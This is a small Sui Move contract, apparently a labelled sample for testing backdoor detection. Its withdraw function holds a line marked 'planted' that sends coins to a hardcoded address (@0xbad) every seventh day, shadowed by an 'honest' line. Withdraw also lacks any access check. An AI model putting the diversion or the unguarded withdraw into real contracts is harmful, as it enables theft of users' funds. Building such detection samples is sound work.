module hostile::one_of_two_addresses;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;
use sui::clock::Clock;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun put(jar: &mut Jar, money: Coin<SUI>) { jar.money.join(money.into_balance()); }

public fun withdraw(jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let coin = jar.money.split(amount).into_coin(ctx);
    let day = clock.timestamp_ms() / 86_400_000;
    let recipient = if (day % 7 == 0) @0xbad else ctx.sender(); //! planted
    let recipient = if (day % 7 == 0) ctx.sender() else ctx.sender(); //! honest
    transfer::public_transfer(coin, recipient)
}
